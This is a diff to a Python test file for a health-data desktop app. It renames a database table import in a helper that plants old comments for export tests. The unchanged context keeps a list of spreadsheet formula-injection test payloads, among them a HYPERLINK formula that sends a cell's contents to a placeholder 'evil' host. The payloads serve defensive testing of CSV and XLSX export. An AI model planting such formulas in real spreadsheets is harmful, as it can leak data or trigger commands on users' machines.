@@ -22,7 +22,7 @@ from jzhealth_desktop.services.exchange.safe_text import csv_field
 from jzhealth_desktop.services.exchange.xlsx_export import build_workbook
 from jzhealth_desktop.services.exchange.xlsx_import import read_workbook
 from jzhealth_desktop.services.forms import save_form
-from jzhealth_desktop.store.repo import DV
+from jzhealth_desktop.store.repo import VALUES_TABLE
 
 from .conftest import COUNTY, YEAR
 
@@ -33,7 +33,9 @@ EVIL = ['=HYPERLINK("http://evil/?x="&A1,"c")', "+1+1", "-2+3", "@SUM(A1)", "=cm
 def _plant_comment(ctx, comment: str, code: str = "ec_beds") -> None:
     """An old store's comment, written past today's checks (as stores from before them hold)."""
     with ctx.db.write() as session:
-        session.execute(update(DV).where(DV.c.org_code == COUNTY, DV.c.year == YEAR, DV.c.indicator_code == code)
+        cols = VALUES_TABLE.c
+        session.execute(update(VALUES_TABLE)
+                        .where(cols.org_code == COUNTY, cols.year == YEAR, cols.indicator_code == code)
                         .values(comment=comment))
 
 
